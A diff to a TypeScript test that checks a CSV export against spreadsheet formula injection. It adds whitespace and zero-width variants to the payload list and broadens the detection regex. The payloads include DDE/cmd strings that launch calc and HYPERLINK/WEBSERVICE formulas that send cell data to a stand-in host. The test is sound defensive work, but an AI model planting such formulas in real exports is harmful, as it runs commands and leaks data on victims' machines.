@@ -22,16 +22,17 @@ afterEach(() => void vi.useRealTimers());
 const formulas = [
   "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://canary.invalid?\"&A1,\"点击\")", "=WEBSERVICE(\"http://canary.invalid\")", "=IMPORTXML(\"http://canary.invalid\",\"//a\")",
   "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-  "\t=1+1", "＝1＋1", "＋1", "－1＋1", "＠SUM(1)", "=\"\"&1", "\"=1+1", "=1+1\";=2", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=SUM(1,1)*苏州",
+  "\t=1+1", " =1+1", "\u3000+1+1", "\u200b=1+1", "\n=1+1", "两行\n=1+1", "＝1＋1", "＋1", "－1＋1", "＠SUM(1)", "=\"\"&1", "\"=1+1", "=1+1\";=2", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=SUM(1,1)*苏州",
 ];
-const isLive = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell);
+/** LibreOffice takes a formula behind a space, too. */
+const isLive = (cell: string) => /^(\t|\r|[\s\p{Cf}]*[=+\-@＝＋－＠])/u.test(cell);
 
 /** RFC 4180, read back as a spreadsheet reads it. */
 function cellsOf(table: string): string[] {
-  return [...table.replace(/^\ufeff/, "").matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, quoted, plain = ""]) => quoted?.replaceAll('""', '"') ?? plain);
+  return [...table.replace(/^\ufeff/, "").matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, quoted, plain = ""]) => quoted?.replaceAll('""', '"') ?? plain);
 }
 
-test("twenty formulas as names come back out of the list of requests as text, still readable", async () => {
+test("two dozen formulas as names come back out of the list of requests as text, still readable", async () => {
   const cast = await aCast(db);
   await aRequest(db, cast, "routed");
   const liaison = await aSignedInVisitor({ userId: cast.liaison.userId, kind: "staff" });
